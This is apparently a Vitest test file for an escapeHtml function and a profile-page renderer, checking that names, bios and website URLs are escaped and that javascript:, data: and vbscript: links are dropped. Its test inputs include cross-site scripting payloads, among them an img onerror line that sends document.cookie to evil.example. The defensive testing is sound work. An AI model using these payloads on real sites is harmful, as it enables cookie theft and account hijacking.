import { describe, it, expect } from "vitest";
import { escapeHtml, renderProfilePage } from "../main";

describe("escapeHtml", () => {
  it("escapes & < > \" and '", () => {
    expect(escapeHtml(`<a href="x" title='y'>Tom & Jerry</a>`)).toBe(
      "&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;Tom &amp; Jerry&lt;/a&gt;",
    );
  });

  it("escapes & first, so each character is escaped exactly once", () => {
    expect(escapeHtml("&lt;")).toBe("&amp;lt;");
    expect(escapeHtml("<<>>")).toBe("&lt;&lt;&gt;&gt;");
    expect(escapeHtml('""')).toBe("&quot;&quot;");
  });

  it("leaves everything else alone", () => {
    expect(escapeHtml("Zoë 🚀 naïve café / = ` \\ 100%")).toBe("Zoë 🚀 naïve café / = ` \\ 100%");
    expect(escapeHtml("")).toBe("");
  });
});

describe("renderProfilePage", () => {
  it("renders a harmless profile exactly as the template says", () => {
    expect(renderProfilePage({ name: "Ada", bio: "Writes programs.", website: "https://ada.example/" })).toBe(
      [
        "<!doctype html>",
        '<html><head><meta charset="utf-8"><title>Ada</title></head>',
        '<body><h1>Ada</h1><p class="bio">Writes programs.</p><a href="https://ada.example/" rel="nofollow noopener">Website</a></body></html>',
      ].join("\n"),
    );
  });

  it("escapes markup in the name (title and heading) and in the bio", () => {
    const page = renderProfilePage({
      name: "<script>alert(document.cookie)</script>",
      bio: `<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`,
    });
    expect(page).not.toContain("<script>");
    expect(page).not.toContain("<img");
    expect(page).toContain("<title>&lt;script&gt;alert(document.cookie)&lt;/script&gt;</title>");
    expect(page).toContain(
      '<p class="bio">&lt;img src=x onerror=&quot;fetch(&#39;https://evil.example/?c=&#39;+document.cookie)&quot;&gt;</p>',
    );
  });

  it("does not let a website URL break out of its href attribute", () => {
    const page = renderProfilePage({ name: "Eve", bio: "", website: 'https://eve.example/" onmouseover="alert(1)' });
    expect(page).not.toContain('" onmouseover="');
    expect(page).toContain('<a href="https://eve.example/&quot; onmouseover=&quot;alert(1)" rel="nofollow noopener">Website</a>');
  });

  it("escapes & in a link's query string", () => {
    const page = renderProfilePage({ name: "Bo", bio: "", website: "https://bo.example/?a=1&b=2" });
    expect(page).toContain('<a href="https://bo.example/?a=1&amp;b=2" rel="nofollow noopener">Website</a>');
  });

  it.each([
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "/relative/path",
    "//evil.example/x",
    "not a url",
  ])("shows no link at all for the website %j (only absolute http/https URLs)", (website) => {
    const page = renderProfilePage({ name: "Mallory", bio: "hi", website });
    expect(page).not.toContain("<a ");
    expect(page).not.toMatch(/javascript|vbscript|data:/i);
  });

  it("shows no link when there is no website", () => {
    expect(renderProfilePage({ name: "Ada", bio: "x" })).not.toContain("<a ");
  });
});
